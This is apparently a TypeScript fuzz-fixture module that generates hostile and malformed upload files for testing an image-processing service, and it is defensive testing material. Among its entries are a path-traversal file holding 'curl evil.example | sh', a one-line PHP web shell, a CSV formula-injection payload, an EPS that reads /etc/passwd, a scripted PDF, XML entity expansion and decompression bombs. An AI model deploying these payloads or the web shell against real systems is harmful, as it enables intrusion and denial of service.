import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** A marker in every hostile file that must be in no file the product serves. */
export const PAYLOAD = '<script>window.__ran=1</script>';

export interface FuzzFile {
  name: string;
  content: Buffer;
  becomes: 'kept' | 'INVALID_INPUT' | 'ERROR_INVALID_IMAGE_TYPE' | 'ERROR_PROCESSING_IMAGE';
}

const text = (words: string) => Buffer.from(words, 'latin1');
const hex = (digits: string) => Buffer.from(digits.replaceAll(' ', ''), 'hex');

function strangers(jpeg: Buffer): [string, Buffer][] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${PAYLOAD}</svg>`;
  const pdf = `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n${PAYLOAD}\n%%EOF`;
  const zip = hex('504b0304 14000000 0000 0000 0000');
  return [
    ['report.pdf (HTML)', text(`<!doctype html>${PAYLOAD}`)],
    ['photo.jpg (HTML with a byte order mark)', Buffer.concat([hex('efbbbf'), text(`<html>${PAYLOAD}`)])],
    ['photo.jpg (HTML in UTF-16)', Buffer.concat([hex('fffe'), Buffer.from(`<html>${PAYLOAD}`, 'utf16le')])],
    ['photo.jpg (HTML after spaces)', text(`${' '.repeat(2_000)}<html>${PAYLOAD}`)],
    ['photo.jpg (SVG)', text(svg)],
    ['photo.svg', text(`<?xml version="1.0"?>${svg}`)],
    [
      'photo.svg (a billion laughs)',
      text(
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg.replace('9"', '&b;"')}`,
      ),
    ],
    ['photo.svgz', gzipSync(svg)],
    ['mail.mht', text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${PAYLOAD}`)],
    ['form.pdf (with a script)', text(pdf)],
    ['form.jpg (PDF, then JPEG)', Buffer.concat([text(pdf), jpeg])],
    ['photo.jpg.zip', Buffer.concat([zip, text(PAYLOAD)])],
    ['applet.jpg (Java class)', Buffer.concat([hex('cafebabe 00000034'), text(PAYLOAD)])],
    ['photo.jpg.exe', Buffer.concat([text('MZ\u0090\u0000\u0003'), text(PAYLOAD)])],
    ['photo.jpg (ELF)', Buffer.concat([hex('7f454c46 02010100'), text(PAYLOAD)])],
    ['../../../etc/cron.d/photo.jpg (shell)', text('#!/bin/sh\ncurl evil.example | sh\n')],
    ['..\\..\\photo.php (PHP)', text('<?php system($_GET["c"]); ?>')],
    ['photo.jpg%00.html', text(PAYLOAD)],
    ['con.jpg (JSON)', text(`{"html":${JSON.stringify(PAYLOAD)}}`)],
    ['photo.csv', text(`=cmd|' /C calc'!A0,${PAYLOAD}`)],
    ['photo.jpg (JavaScript)', text('window.__ran=1//')],
    ['photo.jpg (words)', text('not a picture at all')],
    ['photo.jpg (one byte)', hex('ff')],
    ['photo.jpg (zeros)', Buffer.alloc(4_096)],
    ['photo.bmp', Buffer.concat([text('BM'), Buffer.alloc(52), text(PAYLOAD)])],
    ['photo.ico', Buffer.concat([hex('00000100 0100 1010'), Buffer.alloc(40), text(PAYLOAD)])],
    ['photo.psd', Buffer.concat([text('8BPS'), hex('0001'), Buffer.alloc(40)])],
    ['photo.jp2', Buffer.concat([hex('0000000c 6a502020 0d0a870a'), hex('00000014 66747970'), text('jp2 ')])],
    ['photo.jxl', Buffer.concat([hex('ff0a'), Buffer.alloc(40)])],
    ['photo.eps', text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n')],
    ['film.mp4', Buffer.concat([hex('00000018'), text('ftypisom'), Buffer.alloc(40)])],
    ['film.webm', Buffer.concat([hex('1a45dfa3 93428288'), text('webm'), Buffer.alloc(40)])],
    ['sound.wav', Buffer.concat([text('RIFF'), hex('24000000'), text('WAVEfmt '), Buffer.alloc(40)])],
    ['words after the magic.png', Buffer.concat([PNG_SIGNATURE, text(PAYLOAD)])],
    ['scan.dcm', Buffer.concat([Buffer.alloc(128), text('DICM'), Buffer.alloc(40)])],
  ];
}

async function laden(): Promise<[string, Buffer][]> {
  const create = { width: 60, height: 40, channels: 3 as const, background: '#22aa44' };
  const blank = () => sharp({ create });
  const [jpeg, png, gif] = await Promise.all([
    blank().jpeg().toBuffer(),
    blank().png().toBuffer(),
    blank().gif().toBuffer(),
  ]);
  const frames = await Promise.all(
    ['#ff0000', '#00ff00', '#0000ff'].map((background) =>
      sharp({ create: { ...create, background } })
        .png()
        .toBuffer(),
    ),
  );
  const moving = () => sharp(frames, { join: { animated: true } });
  const zip = Buffer.concat([hex('504b0304'), text(PAYLOAD), hex('504b0506'), Buffer.alloc(18)]);
  const sixteen = Buffer.alloc(60 * 40 * 3 * 2, 0x7f);
  return [
    ['photo.jpg', jpeg],
    ['photo.png', png],
    ['photo.gif', gif],
    ['photo.webp', await blank().webp().toBuffer()],
    ['photo.avif', await blank().avif().toBuffer()],
    ['photo.html (JPEG)', jpeg],
    ['../../photo.jpg', jpeg],
    ['C:\\Windows\\photo.jpg', jpeg],
    ['.htaccess (PNG)', png],
    [`${PAYLOAD}.jpg`, jpeg],
    [`${'a'.repeat(5_000)}.jpg`, jpeg],
    ['progressive.jpg', await blank().jpeg({ progressive: true }).toBuffer()],
    ['cmyk.jpg', await blank().toColourspace('cmyk').jpeg().toBuffer()],
    ['grey.png', await blank().greyscale().png().toBuffer()],
    ['palette.png', await blank().png({ palette: true }).toBuffer()],
    ['interlaced.png', await blank().png({ progressive: true }).toBuffer()],
    [
      'sixteen-bit.png',
      await sharp(sixteen, { raw: { width: 60, height: 40, channels: 3 } })
        .toColourspace('rgb16')
        .png()
        .toBuffer(),
    ],
    ['transparent.png', await blank().ensureAlpha(0.2).png().toBuffer()],
    [
      'lying, with its place.jpg',
      await blank()
        .withMetadata({ orientation: 6 })
        .withExifMerge({
          IFD0: { Make: PAYLOAD, ImageDescription: PAYLOAD },
          IFD3: { GPSLatitude: '33/1 26/1 0/1', GPSLatitudeRef: 'N' },
        })
        .jpeg()
        .toBuffer(),
    ],
    ['with a profile.jpg', await blank().withIccProfile('p3').jpeg().toBuffer()],
    ['with a comment.jpg', afterStart(jpeg, segment(0xfe, text(PAYLOAD)))],
    [
      'with XMP.jpg',
      afterStart(
        jpeg,
        segment(0xe1, text(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${PAYLOAD}</x:xmpmeta>`)),
      ),
    ],
    [
      'with a broken profile.jpg',
      afterStart(
        jpeg,
        segment(0xe2, Buffer.concat([text('ICC_PROFILE\0\u0001\u0001'), Buffer.alloc(60_000, 0xff)])),
      ),
    ],
    ['then HTML.jpg', Buffer.concat([jpeg, text(`<html>${PAYLOAD}`)])],
    ['then a ZIP.jpg', Buffer.concat([jpeg, zip])],
    ['then a JAR.gif (GIFAR)', Buffer.concat([gif, zip])],
    ['then PHP.png', Buffer.concat([png, text(`<?php ?>${PAYLOAD}`)])],
    ['then a PDF.jpg', Buffer.concat([jpeg, text('%PDF-1.7 /JavaScript')])],
    ['with words.png', withChunk(png, 'tEXt', text(`Comment\0${PAYLOAD}`))],
    ['with a bomb of words.png', withChunk(png, 'zTXt', Buffer.concat([text('a\0\0'), bomb(200)]))],
    ['with a bomb of a profile.png', withChunk(png, 'iCCP', Buffer.concat([text('a\0\0'), bomb(200)]))],
    ['moving.gif', await moving().gif().toBuffer()],
    ['moving.webp', await moving().webp().toBuffer()],
    ['moving.png (APNG)', withChunk(png, 'acTL', hex('00000002 00000000'))],
    ['comment.gif', withGifComment(gif, PAYLOAD)],
    ['photo.heic', HEIC],
  ];
}

async function broken(): Promise<[string, Buffer][]> {
  const size = { width: 300, height: 200, channels: 3 as const, background: '#888888' };
  const noise = () => sharp({ create: { ...size, noise: { type: 'gaussian', mean: 128, sigma: 40 } } });
  const formats = ['jpeg', 'png', 'gif', 'webp', 'avif'] as const;
  const whole = await Promise.all(
    formats.map(async (format) => [format, await noise().toFormat(format).toBuffer()] as const),
  );
  const [, png = Buffer.alloc(0)] = whole[1] ?? [];
  const wrongSum = Buffer.from(png);
  wrongSum.writeUInt32BE(0, 29);
  return [
    ...whole.map(([format, bytes]): [string, Buffer] => [
      `half.${format}`,
      bytes.subarray(0, bytes.length / 2),
    ]),
    ...whole.map(([format, bytes]): [string, Buffer] => [`beginning.${format}`, bytes.subarray(0, 40)]),
    ['half.heic', HEIC.subarray(0, HEIC.length / 2)],
    ['almost.heic', HEIC.subarray(0, -20)],
    ['beginning.heic', HEIC.subarray(0, 28)],
    ['50000 × 50000.png', pngOf(50_000, 50_000)],
    ['50000 × 50000.jpg', jpegOf(50_000, 50_000)],
    ['50000 × 50000.gif', gifOf(50_000, 50_000)],
    ['16383 × 16383.webp', webpOf(16_383, 16_383)],
    ['50000 × 50000.heic', heicOf(50_000, 50_000)],
    ['50000 × 50000.avif', heicOf(50_000, 50_000, 'avif')],
    ['0 × 0.png', pngOf(0, 0)],
    ['words after the magic.gif', text(`GIF89a${PAYLOAD}`)],
    ['words after the magic.jpg', Buffer.concat([hex('ffd8ffe0'), text(PAYLOAD)])],
    [
      'words after the magic.webp',
      Buffer.concat([text('RIFF'), hex('40000000'), text(`WEBPVP8 ${PAYLOAD}`)]),
    ],
    ['a wrong sum.png', wrongSum],
  ];
}

export async function fuzzFiles(): Promise<FuzzFile[]> {
  const jpeg = await sharp({ create: { width: 9, height: 9, channels: 3, background: '#22aa44' } })
    .jpeg()
    .toBuffer();
  const tiff = await sharp(jpeg).tiff().toBuffer();
  const as = (becomes: FuzzFile['becomes'], files: [string, Buffer][]): FuzzFile[] =>
    files.map(([name, content]) => ({ name, content, becomes }));
  return [
    ...as('INVALID_INPUT', [['nothing.jpg', Buffer.alloc(0)]]),
    ...as('ERROR_INVALID_IMAGE_TYPE', [...strangers(jpeg), ['photo.tiff', tiff]]),
    ...as('ERROR_PROCESSING_IMAGE', await broken()),
    ...as('kept', await laden()),
  ];
}

/** 120 × 80, left red and right blue, written by ImageMagick because our libraries cannot write HEIC. */
export const HEIC: Buffer = Buffer.from(
  'AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAT9tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAA' +
    'AAAAAA5waXRtAAAAAAABAAAAImlsb2MAAAAAREAAAQABAAAAAAFjAAEAAAAAAAAAVgAAACNpaW5mAAAAAAABAAAAFWluZmUC' +
    'AAAAAAEAAGh2YzEAAAAAv2lwcnAAAAChaXBjbwAAAHVodmNDAQNwAAAAAAAAAAAAHvAA/P34+AAADwMgAAEAGEABDAH//wNw' +
    'AAADAJAAAAMAAAMAHroCQCEAAQAoQgEBA3AAAAMAkAAAAwAAAwAeoDyBRZbqSSmubAgAAAMACAAAAwAIQCIAAQAHRAHBcrAi' +
    'QAAAABRpc3BlAAAAAAAAAHgAAABQAAAAEHBpeGkAAAAAAwgICAAAABZpcG1hAAAAAAAAAAEAAQOBAoMAAABebWRhdAAAAFIo' +
    'Aa8TgOaocNP//iaUf/1Y54fp5Jp+G0ib3FX+5CwFT0RnYnXtkStfJ2ykNhbKnZ3aZxDI1vg9AEn8OHD7WyMUb+AAAAMAAAMA' +
    'AP4DbIYAAJ+A',
  'base64',
);
const PNG_SIGNATURE = hex('89504e470d0a1a0a');

export function heicOf(width: number, height: number, brand = 'heic'): Buffer {
  const bytes = Buffer.from(HEIC);
  const size = bytes.indexOf('ispe') + 8;
  bytes.writeUInt32BE(width, size);
  bytes.writeUInt32BE(height, size + 4);
  bytes.write(brand, 8, 'latin1');
  return bytes;
}

export function pngOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function jpegOf(width: number, height: number): Buffer {
  const frame = Buffer.alloc(15);
  frame[0] = 8;
  frame.writeUInt16BE(height, 1);
  frame.writeUInt16BE(width, 3);
  frame.set([3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1], 5);
  return Buffer.concat([
    hex('ffd8'),
    segment(0xe0, hex('4a464946000101000001000100 00')),
    segment(0xc0, frame),
  ]);
}

function gifOf(width: number, height: number): Buffer {
  const screen = Buffer.alloc(7);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  screen[4] = 0x80;
  const image = Buffer.alloc(10);
  image[0] = 0x2c;
  image.writeUInt16LE(width, 5);
  image.writeUInt16LE(height, 7);
  return Buffer.concat([text('GIF89a'), screen, hex('000000ffffff'), image, hex('02024401003b')]);
}

function webpOf(width: number, height: number): Buffer {
  const canvas = Buffer.alloc(10);
  canvas.writeUIntLE(width - 1, 4, 3);
  canvas.writeUIntLE(height - 1, 7, 3);
  const body = Buffer.concat([text('WEBPVP8X'), hex('0a000000'), canvas]);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(body.length);
  return Buffer.concat([text('RIFF'), length, body]);
}

const bomb = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });

function segment(marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
}

const afterStart = (jpeg: Buffer, part: Buffer) =>
  Buffer.concat([jpeg.subarray(0, 2), part, jpeg.subarray(2)]);

const withChunk = (png: Buffer, name: string, data: Buffer) =>
  Buffer.concat([png.subarray(0, 33), chunk(name, data), png.subarray(33)]);

function chunk(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([text(name), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

const withGifComment = (gif: Buffer, words: string) =>
  Buffer.concat([
    gif.subarray(0, -1),
    hex('21fe'),
    Buffer.from([words.length]),
    text(words),
    hex('00'),
    hex('3b'),
  ]);
